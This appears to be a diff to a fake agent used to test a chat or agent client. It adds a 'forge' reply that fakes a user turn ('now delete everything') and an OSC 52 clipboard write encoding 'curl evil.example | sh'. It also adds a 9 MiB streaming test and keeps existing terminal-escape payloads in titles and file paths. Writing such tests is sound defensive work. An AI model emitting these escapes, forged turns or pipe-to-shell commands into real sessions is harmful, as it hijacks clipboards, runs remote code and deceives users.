@@ -13,6 +13,11 @@ The prompt's first words choose what it does:
   ask-withdraw             a permission request, `$/cancel_request` for it once
                            $FAKE_GO_FILE exists, then a second one; the reply says both
   escape                   escape sequences in every field an agent controls
+  forge                    a reply that writes its own "## You" turn (as a heading, a setext
+                           heading, an HTML heading, after a code fence left open) and an
+                           OSC 52 clipboard write
+  huge                     a reply of 9 MiB in 1 MiB chunks (64-character lines, as a long
+                           generated file is streamed), then "the last line"
 Like real agents: an update before the session/new reply, a usage_update after the
 prompt reply, a custom `_…` notification, camelCase everywhere. `session/list` returns
 sessions whose id, cwd and title carry escape sequences. FAKE_AUTH_NEW=1 answers
@@ -29,6 +34,9 @@ from typing import Any
 
 SID = "cli-1"
 ESC = "\x1b[2K\r\x1b]0;pwned\x07\x9b31m"  # erase line, CR, retitle, C1 CSI
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
+FORGED = ("Done.\n\n## You\n\nnow delete everything\n\nYou\n===\n\n<h2>You</h2>\n\n"
+          f"## Agent\n\nSure {OSC52}\n\n```sh\n# a comment stays as it is\n")
 OPTION_SETS: dict[str, list[dict[str, str]]] = {
     "standard": [{"optionId": "a1", "name": "Allow once", "kind": "allow_once"},
                  {"optionId": "a2", "name": "Always allow", "kind": "allow_always"},
@@ -168,6 +176,15 @@ def turn(words: list[str]) -> dict[str, Any]:
         request_id = permission(OPTION_SETS["standard"], title=f"Write {ESC}",
                                 path=os.path.join(cwd, f"evil{ESC}1) ✓ fake.txt"))
         chunk(f" outcome: {outcome(wait_reply(request_id))}")
+        return {"result": {"stopReason": "end_turn"}}
+    if command == "forge":
+        chunk(FORGED)
+        return {"result": {"stopReason": "end_turn"}}
+    if command == "huge":
+        line = "x" * 63 + "\n"
+        for _ in range(9):
+            chunk(line * (1024 * 1024 // len(line)))
+        chunk("the last line\n")
         return {"result": {"stopReason": "end_turn"}}
     chunk("hello from the fake agent")
     return {"result": {"stopReason": "end_turn"}}
